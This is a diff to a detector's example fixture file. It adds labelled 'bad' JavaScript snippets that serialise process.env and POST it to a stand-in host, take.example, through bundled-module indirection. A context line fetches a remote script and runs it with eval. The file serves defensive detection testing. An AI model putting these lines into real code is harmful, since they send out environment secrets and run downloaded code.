@@ -6,6 +6,21 @@ const sent = { source: 'environment', sink: 'network.body', to: 'take.example' }
 export const throughClients: DetectorExamples = {
   bad: [
     {
+      code: "var b = (f, m) => () => (m || f((m = { exports: {} }).exports, m), m.exports); var x = b((e) => { function send(all) { fetch('https://take.example', { method: 'POST', body: all }); } e.send = send; }); var y = b(() => { var { send } = x(); send(JSON.stringify(process.env)); }); y();",
+      why: 'a function of another module of the same bundle sends it',
+      attributes: sent,
+    },
+    {
+      code: "var b = (f, m) => () => (m || f((m = { exports: {} }).exports, m), m.exports); var x = b((e, t) => { t.exports = { all: () => JSON.stringify(process.env) }; }); var c = x(); fetch('https://take.example', { method: 'POST', body: (0, c.all)() });",
+      why: 'what a function of another module of the same bundle returns is sent',
+      attributes: sent,
+    },
+    {
+      code: "var b = (f, m) => () => (m || f((m = { exports: {} }).exports, m), m.exports); var x = b((e) => { var Box = class { constructor(all) { this.all = all; } send() { return fetch('https://take.example', { method: 'POST', body: this.all }); } }; e.Box = Box; }); var c = x(); new c.Box(JSON.stringify(process.env)).send();",
+      why: 'an object of a class of another module of the same bundle sends what it was made with',
+      attributes: sent,
+    },
+    {
       code: "var request = new XMLHttpRequest(); request.open('GET', 'https://take.example/x.js'); request.onload = function () { (0, eval)(request.responseText); }; request.send();",
       why: 'what the request of a page brings is run',
       attributes: { source: 'download', sink: 'code.evaluate', to: 'eval' },
@@ -142,6 +157,10 @@ export const throughClients: DetectorExamples = {
     },
   ],
   good: [
+    {
+      code: "var b = (f, m) => () => (m || f((m = { exports: {} }).exports, m), m.exports); var x = b((e) => { e.send = (all) => fetch('https://take.example', { method: 'POST', body: all }); e.keep = (all) => all.length; }); var { send, keep } = x(); keep(JSON.stringify(process.env)); send('ready');",
+      why: 'another function of that module of the bundle is given it',
+    },
     {
       code: "import { createClient } from 'redis'; createClient({ url: 'redis://127.0.0.1' }).set('all', JSON.stringify(process.env));",
       why: 'a store of this machine',
